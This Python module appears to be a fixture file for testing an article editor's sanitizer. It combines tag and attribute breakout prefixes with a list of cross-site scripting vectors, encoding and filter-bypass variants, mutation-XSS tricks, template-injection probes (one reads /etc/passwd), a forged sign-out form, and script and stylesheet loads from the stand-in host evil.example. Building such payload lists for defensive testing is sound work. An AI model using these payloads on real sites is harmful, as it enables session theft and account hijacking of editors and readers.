"""What somebody may write into an article so that it runs in an editor's or a reader's browser.

Every vector behind every way to break out of where a text stands, and what works by itself.
"""

from __future__ import annotations

from itertools import product

_BREAKS = (
    "",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</noscript>",
    "</template></select></table>",
)
VECTORS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate attributeName=href values=javascript:alert(1) onbegin=alert(1)></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)></object>",
    "<form action=//evil.example><button formaction=javascript:alert(1)>x</button></form>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
)
_ALONE = (
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus tabindex='0",
    "x onpointerenter=alert(1) y=",
    "javascript:alert(1)",
    " \x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "&#x6A;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "＜script＞alert(1)＜/script＞",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x0c>alert(1)</script\x0c>",
    "<script\u2028>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<!--<script>alert(1)",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<img src='x\" onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>",
    "{{ 7*7 }}{{ config }}",
    "{% raw %}{% include '/etc/passwd' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "⟦1⟧<b>⟦/1⟧<script>alert(1)</script>",
    "<mark class=finding data-repair='<script>alert(1)</script>'>x</mark>",
    "<input type=hidden name=csrf value=stolen>",
    "</form><form action=/sign-out-everywhere method=post><button>OK</button></form>",
    "\u202e<script>alert(1)</script>\u202c",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "</main></body></html><script>alert(1)</script>",
)

PAYLOADS = tuple(opened + vector for opened, vector in product(_BREAKS, VECTORS)) + _ALONE
